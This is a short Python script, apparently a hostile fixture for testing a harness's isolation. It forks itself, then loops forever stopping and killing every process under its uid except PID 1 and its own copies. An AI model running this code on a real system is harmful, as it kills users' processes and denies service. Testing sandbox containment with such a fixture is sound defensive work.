"""Kills and stops every other process of its uid, as fast as it can: the
commands that the harness starts beside it run under the same uid."""
import os
import signal

from hostile import ask, report, tried

ask()
tried()
report()
for _ in range(3):
    os.fork()
while True:
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != 1:
            try:
                with open("/proc/%s/cmdline" % entry, "rb") as f:
                    if b"attack.py" in f.read():
                        continue
                os.kill(int(entry), signal.SIGSTOP)
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
